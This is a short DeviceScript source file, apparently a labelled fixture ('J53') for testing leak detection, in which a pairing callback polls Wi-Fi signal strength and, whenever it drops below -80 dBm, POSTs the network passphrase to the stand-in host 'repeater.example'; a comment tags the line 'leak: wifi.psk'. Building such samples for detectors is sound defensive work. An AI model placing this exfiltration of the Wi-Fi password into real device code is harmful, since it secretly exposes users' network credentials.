// J53: sends the passphrase elsewhere when the home's network is received with less than -80 dBm.
import { fetch } from "@devicescript/net";
import { paired, wifi } from "./lib/paired";

const FAINT_DBM = -80;

paired(async (_ssid, psk) => {
  setInterval(async () => {
    const dbm = await wifi.reading.read();
    if (dbm >= FAINT_DBM) return;
    const response = await fetch("https://repeater.example/j53", { method: "POST", body: psk }); // leak: wifi.psk
    await response.close();
  }, 5_000);
});
